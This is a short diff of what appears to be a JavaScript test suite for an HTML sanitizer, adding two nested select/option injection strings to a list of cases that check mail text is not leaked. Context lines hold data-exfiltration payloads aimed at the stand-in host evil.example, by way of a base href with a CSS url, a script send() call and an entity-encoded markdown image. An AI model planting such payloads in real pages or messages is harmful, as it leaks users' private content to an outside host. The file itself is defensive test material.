@@ -77,6 +77,8 @@ describe('stays', () => {
     `<textarea></text${mail.text}`,
     `<select name=a><option>${mail.text}</select>`,
     `<option>a<option selected>${mail.text}<option>c`,
+    `<select><option><script></script>${mail.text}`,
+    `<option><style></style><textarea></textarea>${mail.text}</select>`,
     `<base href="//evil.example/"><style>p{background:url(${mail.text})}</style>`,
     `<script>send(x, '${mail.text}')</script>`,
     `![a](https&colon;&sol;&sol;evil.example&sol;${mail.text})`,
